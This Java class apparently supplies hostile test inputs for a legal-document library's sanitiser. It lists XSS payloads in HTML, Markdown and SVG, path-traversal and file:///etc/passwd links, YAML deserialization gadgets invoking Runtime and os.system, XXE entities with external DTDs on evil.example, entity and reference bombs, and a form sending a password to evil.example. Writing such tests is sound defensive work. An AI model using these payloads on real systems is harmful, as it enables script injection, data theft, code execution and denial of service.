package vn.quantriet.content;

import java.util.ArrayList;
import java.util.List;
import java.util.stream.Collectors;
import java.util.stream.IntStream;

/** What somebody might put into the library to harm those who read it. */
public final class HostileInputs {
    private HostileInputs() {}

    /** Pieces of text, each of which must come out harmless wherever words may stand. */
    public static List<String> words() {
        List<String> all = new ArrayList<>();
        all.addAll(HTML);
        all.addAll(LINKS);
        all.addAll(BROKEN);
        return List.copyOf(all);
    }

    private static final List<String> HTML = List.of(
            "<script>alert(1)</script>",
            "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
            "<scr<script>ipt>alert(1)</scr</script>ipt>",
            "<script\n>alert(1)</script\n>",
            "</script><script>alert(1)//",
            "<img src=x onerror=alert(1)>",
            "<img src=x onerror=alert(1)//",
            "<img/src=x/onerror=alert(1)>",
            "<IMG \"\"\"><SCRIPT>alert(1)</SCRIPT>\">",
            "<svg onload=alert(1)>",
            "<svg><script>alert(1)</script></svg>",
            "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
            "<svg><a xlink:href=\"javascript:alert(1)\"><text y=20>x</text></a></svg>",
            "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
            "<math href=\"javascript:alert(1)\">x</math>",
            "<body onload=alert(1)>",
            "<iframe src=\"javascript:alert(1)\"></iframe>",
            "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
            "<object data=\"javascript:alert(1)\"></object>",
            "<embed src=\"data:text/html,<script>alert(1)</script>\">",
            "<link rel=stylesheet href=https://evil.example/x.css>",
            "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
            "<base href=https://evil.example/>",
            "<form action=https://evil.example><input name=password></form>",
            "<button formaction=javascript:alert(1)>x</button>",
            "<input onfocus=alert(1) autofocus>",
            "<select onfocus=alert(1) autofocus>",
            "<textarea onfocus=alert(1) autofocus>",
            "<details open ontoggle=alert(1)>",
            "<video><source onerror=alert(1)></video>",
            "<audio src=x onerror=alert(1)>",
            "<marquee onstart=alert(1)>x</marquee>",
            "<style>@import 'https://evil.example/x.css';</style>",
            "<style>*{background:url(javascript:alert(1))}</style>",
            "<p style=\"background:url(https://evil.example)\">x</p>",
            "<div style=\"width:expression(alert(1))\">x</div>",
            "<span onclick=alert(1)>x</span>",
            "<a href=\"javascript:alert(1)\">x</a>",
            "<a href=\"https://evil.example\" target=_blank>x</a>",
            "<template><script>alert(1)</script></template>",
            "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
            "<!--<img src=x onerror=alert(1)>-->",
            "<!--><script>alert(1)</script>-->",
            "<![CDATA[<script>alert(1)</script>]]>",
            "<?xml-stylesheet href=\"javascript:alert(1)\"?>",
            "<?php system('id') ?>",
            "<!DOCTYPE html><script>alert(1)</script>",
            "<x onclick=alert(1)>x</x>",
            "<custom-element onmouseover=alert(1)>",
            "<title></title><script>alert(1)</script>",
            "<xmp><script>alert(1)</script></xmp>",
            "<plaintext><script>alert(1)</script>",
            "<table background=\"javascript:alert(1)\"><tr><td>x</table>",
            "<a id=x name=y>x</a>",
            "<portal src=https://evil.example>",
            "<dialog open onclose=alert(1)>",
            "&lt;script&gt;alert(1)&lt;/script&gt;",
            "&#60;script&#62;alert(1)&#60;/script&#62;",
            "&#x3c;script&#x3e;alert(1)",
            "`<script>alert(1)</script>`",
            "    <script>alert(1)</script>",
            "| a | b |\n|---|---|\n| <script>alert(1)</script> | <img src=x onerror=alert(1)> |",
            "- <script>alert(1)</script>",
            "> <script>alert(1)</script>",
            "**<script>alert(1)</script>**",
            "~~<img src=x onerror=alert(1)>~~",
            "\\<script>alert(1)\\</script>");

    private static final List<String> LINKS = List.of(
            "[x](javascript:alert(1))",
            "[x](JaVaScRiPt:alert(1))",
            "[x](javascript&colon;alert(1))",
            "[x](javascript&#58;alert(1))",
            "[x](&#106;avascript:alert(1))",
            "[x](java\tscript:alert(1))",
            "[x](<java\nscript:alert(1)>)",
            "[x](<javascript:alert(1)>)",
            "[x](\\javascript:alert(1))",
            "[x](%6aavascript:alert(1))",
            "[x](javascript%3Aalert(1))",
            "[x](vbscript:msgbox(1))",
            "[x](data:text/html,<script>alert(1)</script>)",
            "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
            "[x](DATA:image/svg+xml,<svg/onload=alert(1)>)",
            "[x](file:///etc/passwd)",
            "[x](http://evil.example)",
            "[x](//evil.example/x)",
            "[x](/\\evil.example)",
            "[x](\\\\evil.example\\share)",
            "[x](https:evil.example)",
            "[x](https://evil.example/\"onmouseover=\"alert(1))",
            "[x](https://evil.example/'onmouseover='alert(1))",
            "[x](https://evil.example/ \"title\\\" onmouseover=alert(1) x=\\\"\")",
            "[x](https://evil.example/><script>alert(1)</script>)",
            "[x](https://a`b)",
            "[x](https://)",
            "[x](feed:javascript:alert(1))",
            "[x](view-source:javascript:alert(1))",
            "[x](blob:https://evil.example/1)",
            "[x](mailto:a@b.example?subject=<script>)",
            "[x](clause:ii\"onclick=\"alert(1))",
            "[x](clause:<script>#i)",
            "[x](clause:../../etc#i)",
            "[x](clause:57-nq-tw#i' onclick='alert(1))",
            "[x](fact:<script>)",
            "[x](fact:x\"onclick=\"alert(1))",
            "[x](files/../../etc/passwd)",
            "[x](files/..%2f..%2fetc%2fpasswd)",
            "[x](files/a.html)",
            "[x](files/a.svg\"onload=\"alert(1))",
            "[x](/api/reading/57-nq-tw)",
            "[x](#\"onclick=alert(1))",
            "![x](javascript:alert(1))",
            "![x](data:image/svg+xml,<svg onload=alert(1)>)",
            "![x](https://evil.example/track.png)",
            "![x\" onerror=\"alert(1)](files/a.png)",
            "![x](files/a.png \"t\\\" onerror=\\\"alert(1)\")",
            "![x](files/../../../etc/passwd)",
            "![x](//evil.example/a.png)",
            "![](files/a.png)",
            "![x][1]\n\n[1]: javascript:alert(1)",
            "[x][1]\n\n[1]: javascript:alert(1)",
            "[1]: javascript:alert(1) \"x\"\n\n[1]",
            "<javascript:alert(1)>",
            "<https://evil.example/\"onclick=alert(1)>",
            "<a@b.example>",
            "https://evil.example/<script>alert(1)</script>",
            "www.evil.example",
            "[<img src=x onerror=alert(1)>](https://evil.example)",
            "[x](https://evil.example){onclick=alert(1)}",
            "# Một {onclick=alert(1)}");

    private static final List<String> BROKEN = List.of(
            "<",
            "<a",
            "<a href=\"",
            "<a href='x",
            "</",
            "<p><p><p></div></span>",
            "&",
            "&#0;&#x110000;&#xD800;",
            "&#x202E;&lrm;",
            "\"><svg/onload=alert(1)>",
            "'><img src=x onerror=alert(1)>",
            "{{constructor.constructor('alert(1)')()}}",
            "${7*7} #{7*7} *{T(java.lang.Runtime).getRuntime()}",
            "<%= 7*7 %>",
            "]]>",
            "-->",
            "\u2028<script>alert(1)</script>",
            "\uFF1Cscript\uFF1Ealert(1)\uFF1C/script\uFF1E",
            "%3Cscript%3Ealert(1)%3C/script%3E",
            "+ADw-script+AD4-alert(1)+ADw-/script+AD4-");

    /** Front matters; the text below them is good. */
    public static List<String> frontMatters() {
        var good = "number: 1-NQ/TW\nkind: resolution\nissuer: Bộ\nissued: 2024-12-22\ntitle: T\nshort: T\n"
                + "topics: [T]\nstatus: verified\nsource: S\n";
        return List.of(
                "a: &a [x,x]\nb: &b [*a,*a]\nc: &c [*b,*b]\nd: [*c,*c]\n" + good,
                "a: &a\n  b: *a\n" + good,
                good.replace("title: T", "title: !!java.net.URL [\"https://evil.example\"]"),
                good.replace("title: T", "title: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[]]]"),
                good.replace("title: T", "title: !!python/object/apply:os.system [\"id\"]"),
                good.replace("title: T", "title: !<tag:yaml.org,2002:java.lang.Runtime> x"),
                good.replace("title: T", "title: !!binary aGk="),
                good.replace("title: T", "title: !!set {a, b}"),
                good.replace("title: T", "<<: {title: T}"),
                "%TAG ! tag:evil.example,2024:\n" + good,
                "%YAML 9.9\n" + good,
                good + "...\ntitle: zwei\n",
                good + "? [a, b]\n: c\n",
                good + "? {a: b}\n: c\n",
                good.replace("topics: [T]", "topics: " + "[".repeat(200) + "]".repeat(200)),
                good.replace("topics: [T]", "topics: " + "{a: ".repeat(200) + "}".repeat(200)),
                good.replace("title: T", "title: \"\\u202Eabc\\0\""),
                good.replace("title: T", "title: \"<script>alert(1)</script>\""),
                good.replace("issuer: Bộ", "issuer: \"<img src=x onerror=alert(1)>\""),
                good.replace("number: 1-NQ/TW", "number: \"\\\"><svg onload=alert(1)>\""),
                good.replace("short: T", "short: \"</title><script>alert(1)</script>\""),
                good.replace("topics: [T]", "topics: [\"<script>alert(1)</script>\"]"),
                good.replace("title: T", "title: |\n  a\n  <script>alert(1)</script>"),
                good + "relations:\n  - kind: replaces\n    to: ../../etc/passwd\n",
                good + "relations:\n  - kind: replaces\n    to: \"<script>\"\n",
                good + "facts:\n  ../x:\n    status: verified\n    source: x\n",
                good + "expires: 9999999999-01-01\n",
                good.replace("title: T", "title: " + "a".repeat(19_000)),
                good + "a: b\n".repeat(3_000),
                good.replace("kind: resolution", "kind: !!java.lang.Class java.lang.Runtime"));
    }

    /** Drawings. */
    public static List<String> drawings() {
        List<String> all = new ArrayList<>();
        for (var inside : List.of(
                "<script>alert(1)</script>",
                "<script href=\"https://evil.example/x.js\"/>",
                "<script xlink:href=\"data:,alert(1)\"/>",
                "<g onload=\"alert(1)\"/>",
                "<rect onclick=\"alert(1)\" width=\"1\" height=\"1\"/>",
                "<rect ONCLICK=\"alert(1)\"/>",
                "<a href=\"javascript:alert(1)\"><text>x</text></a>",
                "<a xlink:href=\"https://evil.example\"><text>x</text></a>",
                "<foreignObject><body xmlns=\"http://www.w3.org/1999/xhtml\"><script>alert(1)</script></body></foreignObject>",
                "<body xmlns=\"http://www.w3.org/1999/xhtml\" onload=\"alert(1)\"/>",
                "<html:script xmlns:html=\"http://www.w3.org/1999/xhtml\">alert(1)</html:script>",
                "<image href=\"https://evil.example/track.png\"/>",
                "<image xlink:href=\"data:image/svg+xml;base64,PHN2Zy8+\"/>",
                "<feImage href=\"https://evil.example/x.svg\"/>",
                "<use href=\"https://evil.example/x.svg#a\"/>",
                "<use xlink:href=\"data:image/svg+xml,x#a\"/>",
                "<style>@import url(https://evil.example/x.css);</style>",
                "<style>@import 'https://evil.example/x.css';</style>",
                "<style>rect{fill:url(https://evil.example/x)}</style>",
                "<style>rect{fill:u\\72l(https://evil.example/x)}</style>",
                "<style>a{font-family:\"/*\"}b{fill:url(https://evil.example/x)}c{font-family:\"*/\"}</style>",
                chainOfUses(6_000),
                "<style>@font-face{src:url(https://evil.example/x)}</style>",
                "<style><![CDATA[</style><script>alert(1)</script>]]></style>",
                "<rect style=\"background:url(javascript:alert(1))\"/>",
                "<rect style=\"fill:ur/**/l(https://evil.example)\"/>",
                "<rect fill=\"url(https://evil.example/x.svg#a)\"/>",
                "<rect filter=\"url('//evil.example/x.svg#a')\"/>",
                "<animate attributeName=\"href\" to=\"javascript:alert(1)\"/>",
                "<set attributeName=\"onclick\" to=\"alert(1)\"/>",
                "<animateTransform onbegin=\"alert(1)\" attributeName=\"x\"/>",
                "<handler type=\"application/ecmascript\">alert(1)</handler>",
                "<iframe xmlns=\"http://www.w3.org/1999/xhtml\" src=\"javascript:alert(1)\"/>",
                "<switch><foreignObject/></switch>",
                "<linearGradient id=\"g\" href=\"https://evil.example#g\"/>",
                "<text><textPath href=\"javascript:alert(1)\">x</textPath></text>",
                "<mpath href=\"https://evil.example\"/>",
                "<rect style=\"behavior:url(x.htc)\"/>",
                "<rect style=\"-moz-binding:url(x)\"/>",
                "<rect xml:base=\"https://evil.example/\" fill=\"red\"/>",
                "<cursor href=\"https://evil.example/x.cur\"/>",
                "<video xmlns=\"http://www.w3.org/1999/xhtml\"><source onerror=\"alert(1)\"/></video>")) {
            all.add(
                    "<svg xmlns=\"http://www.w3.org/2000/svg\" xmlns:xlink=\"http://www.w3.org/1999/xlink\" width=\"4\" height=\"4\">"
                            + inside + "<rect width=\"4\" height=\"4\"/></svg>");
        }
        all.add("<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\" width=\"4\" height=\"4\"/>");
        all.add("<?xml-stylesheet href=\"https://evil.example/x.css\"?><svg xmlns=\"http://www.w3.org/2000/svg\"/>");
        all.add("<!DOCTYPE svg [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>"
                + "<svg xmlns=\"http://www.w3.org/2000/svg\"><text>&x;</text></svg>");
        all.add("<!DOCTYPE svg SYSTEM \"https://evil.example/x.dtd\"><svg xmlns=\"http://www.w3.org/2000/svg\"/>");
        all.add("<!DOCTYPE svg [<!ENTITY % x SYSTEM \"https://evil.example/x.dtd\"> %x;]>"
                + "<svg xmlns=\"http://www.w3.org/2000/svg\"/>");
        var bomb = new StringBuilder("<!DOCTYPE svg [<!ENTITY a0 \"ha\">");
        for (int i = 1; i < 30; i++) {
            bomb.append("<!ENTITY a%d \"&a%d;&a%d;\">".formatted(i, i - 1, i - 1));
        }
        all.add(bomb + "]><svg xmlns=\"http://www.w3.org/2000/svg\"><text>&a29;</text></svg>");
        var copies = new StringBuilder("<svg xmlns=\"http://www.w3.org/2000/svg\"><rect id=\"u0\" width=\"1\"/>");
        for (int i = 1; i < 30; i++) {
            copies.append("<g id=\"u%d\"><use href=\"#u%d\"/><use href=\"#u%d\"/></g>".formatted(i, i - 1, i - 1));
        }
        all.add(copies + "</svg>");
        all.add("<svg xmlns=\"http://www.w3.org/2000/svg\"><g id=\"a\"><use href=\"#a\"/></g></svg>");
        all.add("<svg xmlns=\"http://www.w3.org/2000/svg\">" + "<g>".repeat(5_000) + "</g>".repeat(5_000) + "</svg>");
        all.add("<svg xmlns=\"http://www.w3.org/2000/svg\">" + "<g/>".repeat(60_000) + "</svg>");
        all.add("<svg><rect onload=\"alert(1)\"/></svg>");
        all.add("<html xmlns=\"http://www.w3.org/1999/xhtml\"><script>alert(1)</script></html>");
        all.add("<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(1)");
        all.add("<!-- --><script>alert(1)</script>");
        all.add("<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"99999\" height=\"99999\"/>");
        return List.copyOf(all);
    }

    /** Each element copies the next: deeper than a stack that follows them. */
    private static String chainOfUses(int length) {
        return IntStream.range(0, length)
                .mapToObj(i -> "<use id=\"a" + i + "\" href=\"#a" + (i + 1) + "\"/>")
                .collect(Collectors.joining());
    }
}
